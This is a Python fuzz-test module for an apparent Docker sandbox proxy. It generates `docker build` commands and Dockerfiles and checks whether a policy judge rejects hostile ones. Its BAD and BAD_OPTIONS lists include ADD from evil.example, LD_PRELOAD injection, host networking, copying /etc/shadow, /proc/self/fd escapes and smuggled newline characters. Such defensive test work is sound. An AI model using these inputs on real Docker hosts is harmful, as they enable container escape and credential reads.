"""Dockerfiles from somebody who wants out, and who judges what docker sends to be built of them.

The judge reads the sent file by itself, with nothing of rshell: it may have one instruction a line and no
comments, so that no builder can read it in two ways.
"""

from __future__ import annotations

import ast
import json
import random
import re
from collections.abc import Iterator
from dataclasses import replace
from typing import Any
from urllib.parse import parse_qsl, urlsplit

from . import hostconfig
from .answers import IMAGE, Answer, as_json
from .engine import Request
from .hostconfig import Site
from .proof import Host, answers_of_a_host, permitted
from .soup import BAD_IMAGES, IMAGES
from .verdict import BUILD

TRAP = "lab/trap:1"
"""An image that is there, with ONBUILD instructions."""
ABSENT = "alpine:missing"

GOOD: tuple[str, ...] = (
    "RUN echo made > /made", "RUN apk add --no-cache curl && rm -rf /tmp/*", 'RUN ["sh", "-c", "id"]', "RUN echo $HOME",
    "RUN echo a \\\n  # comment\n  b", "run id", "RUN echo '--mount=x'", "COPY . /here", "COPY --chown=1:1 a b /c/",
    "COPY --from=first /made /made", "COPY --from=0 /a /b", 'COPY ["a b", "/c"]', "ENV A=b", 'ENV A="b c" D=e',
    "ENV A b c",
    "ENV PATH=/x:$PATH", "ARG PYTHON_VERSION=3.12", "ARG BENCH_N=1", "WORKDIR /w", "USER 1000:1000", "EXPOSE 80 90/udp",
    "VOLUME /data", 'VOLUME ["/data"]', "LABEL bench.x=1", 'LABEL lab.a="b c"', "STOPSIGNAL SIGINT", 'CMD ["sh"]',
    "CMD id",
    'ENTRYPOINT ["ollama"]', 'SHELL ["/bin/sh", "-c"]', "HEALTHCHECK NONE", "HEALTHCHECK --interval=10s CMD true",
    "MAINTAINER me", "# a comment", "", "   ", "RUN true;\\\n\\\n  false", "COPY --link --chmod=755 a /b", "WORKDIR w",
)  # fmt: skip
BAD: tuple[str, ...] = (
    "ADD http://127.0.0.1/ /x", "ADD a /b", "ADD --chown=1 https://evil.example/x /x", "add git@evil:x /x",
    "ONBUILD RUN id",
    "RUN --mount=type=bind,from=evil.example/x,target=/x id", "RUN --mount=type=secret,id=x cat /x",
    "RUN --network=host id",
    "RUN --security=insecure id", "RUN <<EOT\nid\nEOT", "RUN cat <<EOT\nADD http://127.0.0.1 /x\nEOT",
    "COPY <<EOT /x\na\nEOT",
    "COPY --from=evil.example/x /a /b", "COPY --from=alpine /etc/shadow /x", "COPY --from=1 /a /b",
    "COPY --from=$X /a /b",
    "COPY http://127.0.0.1/ /x", "ENV LD_PRELOAD=/x", "ENV A=b LD_PRELOAD=/x", "ENV LD_PRELOAD /x",
    'ENV "LD_PRELOAD"=/x',
    "ENV L\\\nD_PRELOAD=/x", "ENV $A=b", "ENV A=b\tLD_PRELOAD=/x", "ARG BUILDKIT_SYNTAX=evil.example/x",
    "ARG LD_PRELOAD=/x",
    "ENV A='b LD_PRELOAD=/x' NVIDIA_VISIBLE_DEVICES=all", "LABEL rshell.owner=0",
    "LABEL com.docker.compose.project=prod",
    'LABEL "rshell.owner"="0"', "LABEL bench.x=1 rshell.owner=0", "LABEL $X=y", "LABEL bench.x=1 \\\n rshell.owner=0",
    "WORKDIR /proc/self/fd/8", "WORKDIR ../../proc/self/fd/8", "WORKDIR $X", "VOLUME /proc", "VOLUME $X",
    "VOLUME /a/../proc",
    "USER $X", "USER a:b:c", "EXPOSE $X", "STOPSIGNAL $X", "HEALTHCHECK --interval=1ns CMD x",
    "HEALTHCHECK --x=y CMD z",
    "FROM evil.example/x", "FROM $X", "FROM --platform=linux/arm64 alpine", "FROM ${BASE:-alpine}", f"FROM {TRAP}",
    f"FROM {ABSENT}", "FROM alpine AS scratch", "FROM alpine AS alpine", "FROM context", "FROM first",
    "RUN a \\", "NOPE x",
    "INCLUDE x", "RUN", "CMD", "FROM", "COPY a", "RUN a\\\\", "RUN a \\ ", "CROSS_BUILD x", "COPY --parents a b",
    "COPY --exclude=x a b", "COPY --link=false a b", "RUN\u00a0--mount=type=bind id", "RUN a\rADD http://127.0.0.1 /x",
    "RUN a\u2028ADD http://127.0.0.1 /x", "RUN a\x0bb", "RUN a\x85ADD b /c", "\ufeffADD a /b", "#syntax=evil.example/x",
    "RUN a `\nADD b /c", "COPY --from=first:latest /a /b", "COPY --from=FIRST /a /b", "ENV A=b\\\n# c\nLD_PRELOAD=/x",
)  # fmt: skip
HEADS = ("# syntax=evil.example/x", "#syntax = docker/dockerfile:1", "# escape=`", "#escape=`", "# check=skip=all",
         "// syntax=evil.example/x", '{"syntax": "evil.example/x"}', "#!/usr/bin/env x\n# syntax=evil.example/x",
         "# a comment\n# syntax=evil.example/x", "\n# syntax=evil.example/x", "# SYNTAX=evil.example/x")  # fmt: skip
OPTIONS: tuple[str, ...] = (
    "-t lab/x", "--tag=lab/y:1", "-q", "--no-cache", "--pull", "--rm", "--force-rm", "--build-arg PYTHON_VERSION=3.12",
    "--build-arg BENCH_N=1", "--label bench.x=1", "--target first", "--network none", "--shm-size 64m", "-m 1g",
    "--progress plain", "--compress", "--platform linux/amd64", "--ulimit nofile=10", "-f -", "--cpu-shares 2",
)  # fmt: skip
BAD_OPTIONS: tuple[str, ...] = (
    "-t ollama/ollama", "-t lab/x:a/b", "--network host", "--network container:web", "--build-arg HOME",
    "--security-opt x=y",
    "--build-arg BUILDKIT_SYNTAX=evil.example/x", "--build-arg LD_PRELOAD=/x", "--add-host a:host-gateway",
    "--secret id=x",
    "--label rshell.owner=0", "--label com.docker.compose.project=prod", "--cache-from evil.example/x",
    "-f ../files/env",
    "--iidfile out", "--output out", "--ssh default", "--cgroup-parent /", "--isolation x", "--squash", "--memory 100g",
    "--memory-swap -1", "--cpu-quota 9", "--ulimit nproc=-1", "--target ../x", "--build-context x=/",
    "--allow network.host",
    "--build-arg 'PYTHON_VERSION=3 --x'", "--label 'bench.x=1\nrshell.owner=0'", "-t lab/x -t vault",
    "--build-arg LEAKED",
)  # fmt: skip
MARKS = "\\`#$'\"<>=-[]{}|&;\t\n \r:,/@\u00a0"


class Writer:
    """He writes a Dockerfile and the line that sends it."""

    def __init__(self, chance: random.Random) -> None:
        self.random = chance

    def line(self) -> str:
        """A line with its here-document."""
        words = self.random.sample(OPTIONS, self.random.choice((0, 1, 2, 3)))
        if self.chance(0.08):
            words.append(self.random.choice(BAD_OPTIONS))
        context = "-" if not self.chance(0.02) else self.random.choice((".", "/", "https://evil.example/x.git", "- -"))
        text = self.text()
        if self.chance(0.15):
            at = self.random.randint(0, len(text))
            text = text[:at] + self.random.choice(MARKS) + text[at:]
        return f"docker build {' '.join(words)} {context} <<'EOF'\n{text}\nEOF\n"

    def chance(self, share: float) -> bool:
        return self.random.random() < share

    def text(self) -> str:
        """A Dockerfile: mostly what may be."""
        lines = [self.random.choice(HEADS)] if self.chance(0.06) else []
        if self.chance(0.1):
            lines.append("ARG BENCH_N=1")
        lines.append(f"FROM {self.image()} AS first")
        lines += self.body()
        if self.chance(0.5):
            lines += [f"FROM {self.random.choice((self.image(), 'first', 'scratch'))}", *self.body()]
        if self.chance(0.2):
            lines.insert(self.random.randint(0, len(lines)), self.random.choice(BAD))
        return "\n".join(lines)

    def image(self) -> str:
        return self.random.choice(BAD_IMAGES if self.chance(0.04) else IMAGES)

    def body(self) -> list[str]:
        lines = self.random.sample(GOOD, self.random.randint(0, 5))
        return [self.cased(line) for line in lines]

    def cased(self, line: str) -> str:
        """An instruction in other letters, or moved in."""
        first, blank, rest = line.partition(" ")
        style = self.random.randrange(8)
        if style == 0:
            first = first.lower()
        elif style == 1:
            blank = self.random.choice(("\t", "   ", " \\\n ", " \\\n\n ")) if blank else ""
        elif style == 2:
            return "  " + line
        return first + blank + rest


def dockerfile(chance: random.Random) -> str:
    """One line with its Dockerfile."""
    return Writer(chance).line()


def dockerfiles(host: Host, seed: int, first: int = 0) -> Iterator[str]:
    """Lines of `docker build` that the policy permits, each with its Dockerfile."""
    return permitted(host, dockerfile, f"dockerfile/{seed}", first, answers)


# -- the fake host, and the judge -------------------------------------------------------------


def answers(method: str, path: str, earlier: tuple[str, ...]) -> Answer:
    """An Engine with every image, one of them with a digest, one a trap."""
    if path == f"/images/{TRAP}/json":
        return as_json({**IMAGE, "Config": {"OnBuild": ["ADD http://127.0.0.1 /x"]}})
    if path == "/images/ollama/ollama:latest/json":
        return as_json({**IMAGE, "RepoDigests": ["ollama/ollama@sha256:" + "e" * 64]})
    return answers_of_a_host(method, path, earlier)


def also(site: Site, call: str, request: Request) -> list[str] | None:
    """Judge what is sent to be built."""
    if call != BUILD:
        return [] if call.startswith("GET /images/") and call.endswith("/json") else None
    query = parse_qsl(urlsplit(request.target).query)
    wrong = [f"?{key}={value}" for key, value in query if not _fits(site, key, value)]
    if "labels" not in dict(query):
        wrong.append("nobody has built it")
    if not request.body.startswith("tar "):
        return [*wrong, f"sends no tar: {request.body[:100]}"]
    members = ast.literal_eval(request.body.removeprefix("tar "))
    if [name for name, *_ in members] != ["Dockerfile"]:
        wrong.append(f"sends {[name for name, *_ in members]}")
    return wrong + [f"Dockerfile: {what}" for what in read(site, members[0][3])]


def _fits(site: Site, key: str, value: str) -> bool:
    """Tell whether one part of the query may be. Every key that is not here must be empty."""
    if key in ("buildargs", "labels"):
        return not list(_query_pairs(site, key, json.loads(value)))
    if key == "t":
        return re.fullmatch(r"lab/[a-z0-9._-]+(:[\w.-]+)?", value) is not None
    if key in ("memory", "shmsize"):
        return value.isdigit() and int(value) <= (site.memory if key == "memory" else site.shm)
    if key == "ulimits":
        limits = json.loads(value) or []
        return all(one["Name"] in hostconfig.ULIMITS and 0 <= one["Hard"] <= 1 << 20 for one in limits)
    if key == "cachefrom":
        return value in ("null", "[]")
    return re.fullmatch(CLOSED.get(key, "|0|false|null|\\[\\]"), value) is not None


CLOSED = {
    "dockerfile": "Dockerfile", "networkmode": "default|none|bridge|", "target": "[a-z0-9_.-]*", "version": "1",
    "rm": "0|1", "forcerm": "0|1", "nocache": "0|1", "pull": "0|1", "q": "0|1", "platform": "(linux/(amd64|arm64))?",
    "cpushares": "0|[1-9][0-9]{0,5}", "cpusetcpus": "[0-9,-]*", "cpusetmems": "[0-9,-]*", "memswap": "0|[1-9][0-9]*",
}  # fmt: skip


def _query_pairs(site: Site, key: str, pairs: Any) -> Iterator[str]:
    if key == "buildargs":
        for name, value in (pairs or {}).items():
            if not isinstance(value, str) or not re.fullmatch("PYTHON_VERSION|BENCH_.*", name):
                yield name
    else:
        # not the owner's own label: every container of the image would have it
        if (pairs or {}).pop("rshell.built-by", "") != str(site.uid):
            yield "who has built it"
        nobody = replace(site, uid=-1)
        yield from hostconfig.owned_labels(nobody, {"com.docker.compose.project": "", **(pairs or {})})


def read(site: Site, text: str) -> list[str]:
    """Judge the text of a Dockerfile."""
    wrong: list[str] = []
    stages: list[str] = []
    for line in text.split("\n"):
        if not line.strip():
            continue
        instruction, _, rest = line.partition(" ")
        if not re.fullmatch("[A-Z]+", instruction) or instruction not in INSTRUCTIONS:
            wrong.append(f"has an instruction {line!r}")
        elif line.endswith("\\") or not line.replace("\t", " ").isprintable():
            wrong.append(f"can be read in two ways: {line!r}")
        elif "<<" in line and instruction in ("RUN", "COPY"):
            wrong.append(f"may have a here-document: {line!r}")
        else:
            wrong += [f"{what}: {line!r}" for what in INSTRUCTIONS[instruction](site, rest.strip(), stages)]
    return wrong


def _from(site: Site, rest: str, stages: list[str]) -> Iterator[str]:
    found = re.fullmatch(r"(\S+)(?: AS ([a-z][a-z0-9._-]*))?", rest)
    if not found:
        yield "is no FROM IMAGE AS STAGE"
    elif found[1] not in ("scratch", *stages):
        yield from hostconfig.image(site, found[1])
        if found[1] == TRAP:
            yield "has triggers"
    stages.append(found[2] or "" if found else "")


def _run(_: Site, rest: str, stages: list[str]) -> Iterator[str]:
    if rest.startswith("--"):
        yield "has options"


def _copy(_: Site, rest: str, stages: list[str]) -> Iterator[str]:
    while rest.startswith("--"):
        flag, _, rest = rest.partition(" ")
        rest = rest.strip()
        name, _, value = flag.partition("=")
        if name == "--from":
            if value not in [*stages[:-1], *map(str, range(len(stages) - 1))] or not value:
                yield f"takes from {value!r}"
        elif name not in ("--chown", "--chmod", "--link"):
            yield f"has an option {name}"
    if "://" in rest or "git@" in rest:
        yield "fetches"


def _pairs(kind: str) -> Any:
    def pairs(site: Site, rest: str, stages: list[str]) -> Iterator[str]:
        words = re.findall(r"""(?:[^\s"'\\]|\\.|"(?:\\.|[^"\\])*"|'[^']*')+""", rest)
        older = kind != "ARG" and words and "=" not in words[0]
        for word in words[:1] if older else words:
            name = word.partition("=")[0]
            if kind == "LABEL":
                yield from hostconfig.owned_labels(site, {"com.docker.compose.project": "", name: ""})
            elif not hostconfig.VARIABLE.fullmatch(name) or name.startswith(hostconfig.HOOK_VARIABLES):
                yield f"sets {name!r}"

    return pairs


def _path(site: Site, rest: str, stages: list[str]) -> Iterator[str]:
    for path in rest.split():
        if path != "/":
            yield from hostconfig.inside(site, path if path.startswith("/") else f"/{path}")


def _plain(pattern: str) -> Any:
    def plain(_: Site, rest: str, stages: list[str]) -> Iterator[str]:
        if not re.fullmatch(pattern, rest):
            yield f"is no {pattern}"

    return plain


INSTRUCTIONS: dict[str, Any] = {
    "FROM": _from, "RUN": _run, "COPY": _copy, "WORKDIR": _path, "VOLUME": _path,
    **{kind: _pairs(kind) for kind in ("ARG", "ENV", "LABEL")},
    **dict.fromkeys(("CMD", "ENTRYPOINT", "SHELL", "MAINTAINER"), _plain("(?!--).*")),
    "EXPOSE": _plain("[0-9a-z/ -]+"), "USER": _plain(hostconfig.USER.pattern), "STOPSIGNAL": _plain("[A-Za-z0-9+-]+"),
    "HEALTHCHECK": _plain(r"(?i:NONE)|(--(interval|timeout|start-period|start-interval|retries)=\w+ )*(?i:CMD) .+"),
}  # fmt: skip
